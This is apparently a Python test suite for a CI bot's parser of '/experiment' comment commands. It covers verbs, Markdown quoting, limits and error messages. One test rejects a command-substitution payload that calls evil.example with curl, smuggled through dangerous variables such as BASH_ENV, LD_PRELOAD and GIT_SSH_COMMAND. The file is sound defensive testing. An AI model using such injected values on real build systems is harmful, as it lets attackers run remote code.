"""What counts as a command in a comment, and what it asks for."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.core.commands import LONGEST_COMMENT, MOST_COMMANDS, Command, Misunderstood, Verb, find, read_line

SHA = "4b825dc642cb6eb9a060e54bf8d69288fbee4904"


def only(body: str) -> Command:
    [found] = find(body)
    assert isinstance(found, Command), found
    return found


def misunderstood(body: str) -> str:
    [found] = find(body)
    assert isinstance(found, Misunderstood), found
    return found.why


@pytest.mark.parametrize(
    ("line", "command"),
    [
        ("/experiment run", Command(Verb.RUN)),
        ("/experiment run train", Command(Verb.RUN, ("train",))),
        ("/experiment run train bench LR=0.1", Command(Verb.RUN, ("train", "bench"), {"LR": "0.1"})),
        ('/experiment run "my workflow" NOTE="a b"', Command(Verb.RUN, ("my workflow",), {"NOTE": "a b"})),
        ("/experiment run a_b_c", Command(Verb.RUN, ("a_b_c",))),
        ("/experiment run *star*", Command(Verb.RUN, ("*star*",))),
        ("/experiment run X=", Command(Verb.RUN, (), {"X": ""})),
        ("/experiment rerun", Command(Verb.RERUN)),
        ("/experiment rerun failed", Command(Verb.RERUN, ("failed",))),
        ("/experiment rerun train / fit", Command(Verb.RERUN, ("train / fit",))),
        ("/experiment rerun `train / fit`", Command(Verb.RERUN, ("train / fit",))),
        ("/experiment cancel train / fit (lr=0.1)", Command(Verb.CANCEL, ("train / fit (lr=0.1)",))),
        (f"/experiment approve {SHA.upper()}", Command(Verb.APPROVE, (SHA,))),
        ("/experiment compare release/1.0", Command(Verb.COMPARE, ("release/1.0",))),
        ("/experiment status", Command(Verb.STATUS)),
        ("/Experiment HELP", Command(Verb.HELP)),
        ("/experiment", Command(Verb.HELP)),
    ],
)
def test_each_command_says_what_it_says(line: str, command: Command) -> None:
    assert only(line) == command


@pytest.mark.parametrize(
    "body",
    [
        "> /experiment run",
        "> she wrote\n/experiment run",  # Markdown's laziness: still the quote
        "- /experiment run",
        "1. /experiment run",
        "    /experiment run",
        "```\n/experiment run\n```",
        "~~~\n/experiment run",  # a fence that nobody closes goes on to the end
        "`/experiment run`",
        "`begin\n/experiment run\nend`",
        "<!-- /experiment run -->",
        "<!--\n/experiment run\n-->",
        "<details>\n/experiment run\n</details>",
        "# /experiment run",
        "say /experiment run",
        "/experiments run",
        "/experimental",
        "**/experiment run**",
        "[/experiment run](https://example.org)",
        "| /experiment run |\n| --- |",
    ],
)
def test_what_is_quoted_shown_hidden_or_only_mentioned_is_no_command(body: str) -> None:
    assert find(body) == ()


def test_commands_stand_among_other_words() -> None:
    body = "Thanks!\n\n/experiment rerun failed\nand then\n/experiment status\n\n> quoted\n\nBye."
    assert [str(one) for one in find(body) if isinstance(one, Command)] == [
        "/experiment rerun failed",
        "/experiment status",
    ]


def test_lines_may_end_as_windows_ends_them() -> None:
    assert len(find("/experiment status\r\n/experiment help\r\n")) == 2


def test_an_approval_names_the_whole_commit() -> None:
    for short in ("", SHA[:7], "HEAD", SHA + "0"):
        assert "40 digits" in misunderstood(f"/experiment approve {short}")


def test_what_is_misspelt_is_answered_with_what_was_meant() -> None:
    assert "`rerun`" in misunderstood("/experiment re-run failed")
    assert "`cancel`" in misunderstood("/experiment xyz")


def test_what_cannot_be_is_refused_with_a_reason() -> None:
    assert "quotation mark" in misunderstood('/experiment run "train')
    assert "secret" in misunderstood("/experiment run TOKEN=secret:deploy")
    assert "longer" in misunderstood(f"/experiment run A={'x' * 501}")
    assert "settings" in misunderstood("/experiment run " + " ".join(f"A{n}=1" for n in range(21)))
    assert "alone" in misunderstood("/experiment status please")
    assert "one branch" in misunderstood("/experiment compare")


@pytest.mark.parametrize(
    "name",
    ["BASH_ENV", "ENV", "PS4", "PATH", "LD_PRELOAD", "PYTHONPATH", "GIT_SSH_COMMAND", "https_proxy", "OMPI_MCA_x"],
)
def test_no_variable_of_a_command_tells_a_shell_or_a_loader_what_to_run(name: str) -> None:
    assert "only the config may set it" in misunderstood(f"/experiment run {name}='$(curl evil.example)'")
    assert only("/experiment run LR=0.1 PATIENCE=3 ENVIRONMENT=test").settings == {
        "LR": "0.1",
        "PATIENCE": "3",
        "ENVIRONMENT": "test",
    }


def test_a_comment_of_many_commands_is_taken_in_part_and_says_so() -> None:
    found = find("/experiment status\n" * 9)
    assert len(found) == MOST_COMMANDS + 1
    assert isinstance(found[-1], Misunderstood)


def test_nobody_gets_us_to_parse_a_book() -> None:
    assert find("/experiment run\n" + "[" * LONGEST_COMMENT) == ()


def test_an_escape_sequence_never_gets_any_further() -> None:
    assert only("/experiment rerun a\x1b[31mb").names == ("ab",)


@given(st.text(alphabet=st.sampled_from(list("/experiment run>`~-*_[]()<!\n \"'=#|\\")), max_size=300))
def test_no_comment_raises(body: str) -> None:
    for one in find(body + "\n\n/experiment" + body):
        assert isinstance(one, Command | Misunderstood)


@given(st.lists(st.text("abz .-_/()'\"", min_size=1, max_size=20), max_size=3))
def test_a_command_read_again_from_its_own_words_is_the_same(names: list[str]) -> None:
    command = Command(Verb.RUN, tuple(dict.fromkeys(" ".join(name.split()) or "x" for name in names)), {"LR": "0.1 x"})
    assert read_line(str(command)) == command
